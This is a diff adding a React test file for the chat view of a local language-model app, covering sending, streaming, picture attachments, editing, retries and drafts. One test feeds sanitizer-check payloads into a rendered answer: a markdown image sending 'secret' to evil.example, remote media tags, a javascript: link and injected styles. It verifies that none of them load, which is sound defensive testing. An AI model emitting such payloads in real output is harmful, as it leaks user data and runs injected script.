@@ -1,0 +1,265 @@
+/** The chat as a person uses it, over the real RPC and a core in memory. */
+import { Tooltip } from '@base-ui/react/tooltip';
+import { act, cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { I18nextProvider } from 'react-i18next';
+import { afterEach, beforeEach, expect, test } from 'vitest';
+import { useStore } from 'zustand/react';
+import { Fault } from '../../../shared/result.ts';
+import type { ImagePart, Turn } from '../../../shared/schemas/chat.ts';
+import type { EngineState } from '../../../shared/schemas/engine.ts';
+import { defaultLoadSettings } from '../../../shared/schemas/memory.ts';
+import { createI18n } from '../../i18n.ts';
+import { createStores, type Stores, StoresContext, useStores } from '../../stores/index.ts';
+import { Toasts, undoLast } from '../../ui/toasts.tsx';
+import { ChatView } from './ChatView.tsx';
+import { createDraftsStore } from './drafts.ts';
+import { pictures } from './images/testPictures.ts';
+import { answerTurn, chatOf, type TestCore, testCore, userTurn } from './testCore.ts';
+
+const ready = (more: Partial<Extract<EngineState, { status: 'ready' }>['model']> = {}): EngineState => ({
+  status: 'ready',
+  modelId: 'm',
+  answering: false,
+  model: { backend: 'llama-server', settings: defaultLoadSettings, contextSize: 4096, layers: { total: 5, onGpu: 0 }, vision: true, thinking: false, ...more },
+});
+
+let stores: Stores;
+function Route() {
+  return <ChatView chatId={useStore(useStores().ui, (state) => state.id)} />;
+}
+/** The view on `core`, with a model that is `state`. */
+function show(core: TestCore, id?: string, state: EngineState = ready()) {
+  window.location.hash = id ? `#/chat/${id}` : '#/chat';
+  stores = createStores(core.client);
+  stores.engine.setState({ state });
+  const draw = async (picture: Blob) => {
+    if (picture.size < 200) throw new DOMException('The source image could not be decoded');
+    return { original: { width: 1920, height: 1080 }, sent: { width: 1344, height: 756 }, bytes: new Uint8Array([1, 2, 3]) };
+  };
+  stores = { ...stores, drafts: createDraftsStore(core.client, { draw }) };
+  render(
+    <I18nextProvider i18n={createI18n('en')}>
+      <StoresContext value={stores}>
+        <Tooltip.Provider>
+          <Route />
+          <Toasts />
+        </Tooltip.Provider>
+      </StoresContext>
+    </I18nextProvider>,
+  );
+  return { user: userEvent.setup(), field: () => screen.getByRole<HTMLTextAreaElement>('textbox', { name: 'Message' }) };
+}
+const file = (name: string) => new File([pictures.get(name)!], name);
+const paste = (files: File[]) => fireEvent.paste(window, { clipboardData: { types: ['Files'], files } });
+const stats: NonNullable<Turn['stats']> = {
+  stopReason: 'end',
+  promptTokens: 20,
+  cachedTokens: 0,
+  tokens: 512,
+  firstTokenMs: 350,
+  tokensPerSecond: 41.3,
+  promptTokensPerSecond: 200,
+};
+const question = userTurn('q', [{ type: 'text', text: 'Count *to* ten' }]);
+
+beforeEach(() => {
+  globalThis.IntersectionObserver ??= class {
+    observe() {}
+    disconnect() {}
+  } as never;
+});
+afterEach(cleanup);
+
+test('a message goes to a new chat, its answer streams, and the stats are told', async () => {
+  const core = testCore();
+  const { user, field } = show(core);
+  await user.type(field(), 'Hello{Shift>}{Enter}{/Shift}there{Enter}');
+  const answer = await screen.findByRole('article', { name: 'Answer' });
+  expect(core.calls.find((call) => call.method === 'chat.send')?.input).toEqual({ parts: [{ type: 'text', text: 'Hello\nthere' }], thinking: false });
+  expect(field().value).toBe('');
+  expect(window.location.hash).toBe('#/chat/new');
+  act(() => core.prompt('a1', 0, 1204));
+  await within(answer).findByText('Reading 1,204 tokens…');
+  act(() => core.say('a1', 'Hi **you**'));
+  expect((await within(answer).findByText('you')).closest('[data-streamdown="strong"]')).toBeTruthy();
+  act(() => core.end('a1', { stats }));
+  await within(answer).findByText('41.3 tok/s · 512 tokens · 0.35 s to first · finished');
+});
+
+test('a refused send keeps the text and the pictures, and says why', async () => {
+  const core = testCore();
+  const { user, field } = show(core);
+  paste([file('01-red-circle.png')]);
+  await screen.findByRole('listitem', { name: 'Picture 1: 01-red-circle.png' });
+  core.fail('chat.send', new Fault('engine.contextFull', 'full', { used: 5000, context: 4096 }));
+  await user.type(field(), 'What is this?{Enter}');
+  expect((await screen.findByRole('alert')).textContent).toMatch(/5,000 of 4,096/);
+  expect(field().value).toBe('What is this?');
+  expect(screen.getByRole('listitem', { name: 'Picture 1: 01-red-circle.png' })).toBeTruthy();
+  await user.type(field(), '{Enter}');
+  await screen.findByRole('article', { name: 'Answer' });
+  expect(core.calls.filter((call) => call.method === 'chat.send').at(-1)?.input).toMatchObject({
+    parts: [{ type: 'image', name: '01-red-circle.png' }, { type: 'text' }],
+  });
+});
+
+test('pictures keep the order in which they were given, can be moved and removed, and bad ones are named', async () => {
+  const core = testCore();
+  const { user } = show(core);
+  paste([file('02-blue-square.png'), new File(['Dear diary'], 'notes.txt'), file('18-tiny-48x48-red-square.png'), file('01-red-circle.png')]);
+  const names = () => screen.getAllByRole('listitem').map((item) => item.getAttribute('aria-label'));
+  await waitFor(() => expect(names()).toEqual(['Picture 1: 02-blue-square.png', 'Picture 2: 01-red-circle.png']));
+  const said = screen.getAllByRole('alert').map((alert) => alert.textContent);
+  expect(said[0]).toMatch(/^notes.txt is not a picture/);
+  expect(said[1]).toMatch(/^18-tiny-48x48-red-square.png is damaged/);
+  await user.click(screen.getByRole('button', { name: 'Move 01-red-circle.png before the one before it' }));
+  expect(names()).toEqual(['Picture 1: 01-red-circle.png', 'Picture 2: 02-blue-square.png']);
+  await user.click(screen.getByRole('button', { name: 'Remove 01-red-circle.png' }));
+  expect(names()).toEqual(['Picture 1: 02-blue-square.png']);
+});
+
+test('the one button stops, Escape stops only from an empty composer, and the text stays', async () => {
+  const core = testCore([chatOf([question, answerTurn('a', 'One, two', { status: 'running' })])]);
+  const { user, field } = show(core, 'c1');
+  await screen.findByRole('button', { name: 'Stop' });
+  expect(screen.queryByRole('button', { name: 'Send' })).toBeNull();
+  await user.type(field(), 'draft{Escape}');
+  expect(core.calls).toEqual([]);
+  await user.clear(field());
+  await user.type(field(), '{Escape}');
+  await screen.findByRole('button', { name: 'Send' });
+  expect(core.calls).toEqual([{ method: 'chat.stop', input: { turnId: 'a' } }]);
+  const answer = screen.getByRole('article', { name: 'Answer' });
+  expect(answer.textContent).toContain('One, two');
+  expect(answer.textContent).toContain('stopped by you');
+});
+
+test('a deleted message can be taken back', async () => {
+  const core = testCore([chatOf([question, answerTurn('a', 'One')])]);
+  const { user } = show(core, 'c1');
+  const answer = await screen.findByRole('article', { name: 'Answer' });
+  await user.click(within(answer).getByRole('button', { name: 'Delete' }));
+  await screen.findByText('Message deleted');
+  expect(undoLast()).toBe(true);
+  await waitFor(() => expect(core.calls.map((call) => call.method)).toEqual(['chat.deleteTurn', 'chat.restoreTurn']));
+});
+
+test('the pager goes from one alternative to the next', async () => {
+  const core = testCore([chatOf([question, answerTurn('a2', 'Two', { siblings: ['a1', 'a2', 'a3'] })])]);
+  const { user } = show(core, 'c1');
+  const pager = await screen.findByRole('group', { name: 'Alternatives' });
+  expect(pager.textContent).toContain('2/3');
+  await user.click(within(pager).getByRole('button', { name: 'Previous alternative' }));
+  await user.click(within(pager).getByRole('button', { name: 'Next alternative' }));
+  expect(core.calls).toEqual(['a1', 'a3'].map((turnId) => ({ method: 'chat.choose', input: { turnId } })));
+});
+
+test('a question is shown as it was typed and edited in place with its pictures', async () => {
+  const picture: ImagePart = {
+    type: 'image',
+    original: 'a'.repeat(64),
+    sent: 'b'.repeat(64),
+    name: 'cat.png',
+    width: 9,
+    height: 9,
+    sentWidth: 9,
+    sentHeight: 9,
+  };
+  const core = testCore([chatOf([{ ...question, parts: [picture, ...question.parts] }, answerTurn('a', 'One')])]);
+  const { user } = show(core, 'c1');
+  await screen.findByText('Count *to* ten');
+  await user.click(within(screen.getByRole('article', { name: 'You' })).getByRole('button', { name: 'Edit' }));
+  const editor = screen.getByRole('textbox', { name: 'Edit message' });
+  await user.type(editor, '!{Enter}');
+  await screen.findByText('Count *to* ten');
+  expect(core.calls).toEqual([{ method: 'chat.edit', input: { turnId: 'q', parts: [picture, { type: 'text', text: 'Count *to* ten!' }], thinking: false } }]);
+});
+
+test('nothing in an answer is fetched, and links open outside', async () => {
+  const text = [
+    '![a cat](https://evil.example/cat.png?q=secret)',
+    '<img src="https://evil.example/x.png"> <picture><source srcset="https://evil.example/y.png"></picture> <video src="https://evil.example/z.mp4"></video>',
+    '[site](https://example.com/a) [local](/blobs/x) [bad](javascript:alert(1))',
+    '<style>body{display:none}</style><a href="https://example.com/b" style="position:fixed" target="_self">raw</a>',
+  ].join('\n\n');
+  show(testCore([chatOf([question, answerTurn('a', text)])]), 'c1');
+  const answer = await screen.findByRole('article', { name: 'Answer' });
+  await within(answer).findByText(/Picture not loaded \(a cat\)/);
+  const fetched = [...answer.querySelectorAll('[src], [srcset], [poster], [data], iframe, style, link')].map((element) => element.outerHTML);
+  expect(fetched).toEqual([]);
+  const links = [...answer.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.target, link.rel, link.getAttribute('style')]);
+  expect(links).toEqual(['https://example.com/a', 'https://example.com/b'].map((href) => [href, '_blank', 'noopener noreferrer', null]));
+});
+
+test('formulas and tables are drawn', async () => {
+  show(testCore([chatOf([question, answerTurn('a', 'So $x^2$ and\n\n| a | b |\n|---|---|\n| 1 | 2 |\n')])]), 'c1');
+  const answer = await screen.findByRole('article', { name: 'Answer' });
+  await waitFor(() => expect(answer.querySelector('.katex')).toBeTruthy());
+  expect(
+    within(answer)
+      .getAllByRole('cell')
+      .map((cell) => cell.textContent),
+  ).toEqual(['1', '2']);
+});
+
+test.each([
+  ['interrupted', {}, /cut off because the engine or the app stopped/],
+  ['failed', { error: { code: 'engine.busy', message: '' } }, /still answering/],
+] as const)('an answer that was %s says so and can be asked again', async (status, more, words) => {
+  const core = testCore([chatOf([question, answerTurn('a', 'One', { status, ...more })])]);
+  const { user } = show(core, 'c1');
+  const alert = await screen.findByRole('alert');
+  expect(alert.textContent).toMatch(words);
+  await user.click(within(alert).getByRole('button', { name: 'Retry' }));
+  expect(core.calls).toEqual([{ method: 'chat.retry', input: { turnId: 'a', thinking: false } }]);
+});
+
+test('without a model it says so and offers the newest of the library', async () => {
+  const { user, field } = show(testCore(), undefined, { status: 'idle' });
+  const model = { repo: 'a/b', label: 'Q4_K_M', files: [], size: 1, architecture: 'x', contextLength: 1, vision: true, thinking: true, verified: true };
+  act(() =>
+    stores.library.setState({
+      models: [
+        { ...model, id: 'old', name: 'Old', addedAt: '2026-01-01T00:00:00Z' },
+        { ...model, id: 'new', name: 'New', addedAt: '2026-02-01T00:00:00Z' },
+        { ...model, id: 'bad', name: 'Bad', addedAt: '2026-03-01T00:00:00Z', problem: 'truncated' },
+      ],
+    }),
+  );
+  await screen.findByText('No model is loaded.');
+  expect(screen.getByRole('button', { name: 'Load New Q4_K_M' })).toBeTruthy();
+  await user.type(field(), 'Hello');
+  expect(screen.getByRole('button', { name: 'Send' })).toHaveProperty('disabled', true);
+  await user.click(screen.getByRole('button', { name: 'Find a model' }));
+  expect(stores.ui.getState().view).toBe('discover');
+});
+
+test('a model that cannot see says why where a picture would be attached', async () => {
+  const { user } = show(testCore(), undefined, { ...ready({ vision: false }), visionProblem: 'cmake' } as EngineState);
+  expect((await screen.findByRole('status')).textContent).toMatch(/Install CMake/);
+  cleanup();
+  show(testCore(), undefined, { ...ready({ vision: false }), visionProblem: 'noProjector' } as EngineState);
+  expect(screen.queryByRole('status')).toBeNull();
+  await user.click(screen.getByRole('button', { name: 'Add pictures' }));
+  expect((await screen.findByRole('status')).textContent).toMatch(/no vision file/);
+  expect(screen.queryAllByRole('listitem')).toEqual([]);
+});
+
+test('thinking is folded to one line, and asked for only where the model has it', async () => {
+  const core = testCore([chatOf([question, answerTurn('a', 'One', { thinking: 'Let me see', stats: { ...stats, thinkingMs: 4200 } })])]);
+  const { user, field } = show(core, 'c1', ready({ thinking: true }));
+  expect((await screen.findByText('Thought for 4.2 s')).closest('details')?.open).toBe(false);
+  act(() => stores.settings.setState(({ settings }) => ({ settings: { ...settings, thinking: true } })));
+  await user.type(field(), 'And?{Enter}');
+  await waitFor(() => expect(core.calls.find((call) => call.method === 'chat.send')?.input).toMatchObject({ thinking: true }));
+});
+
+test('a draft stays with its chat', async () => {
+  const { user, field } = show(testCore([chatOf([question, answerTurn('a', 'One')])]), 'c1');
+  await user.type(field(), 'half a thought');
+  act(() => stores.ui.getState().go('chat'));
+  expect(field().value).toBe('');
+  act(() => stores.ui.getState().go('chat', 'c1'));
+  expect(field().value).toBe('half a thought');
+});
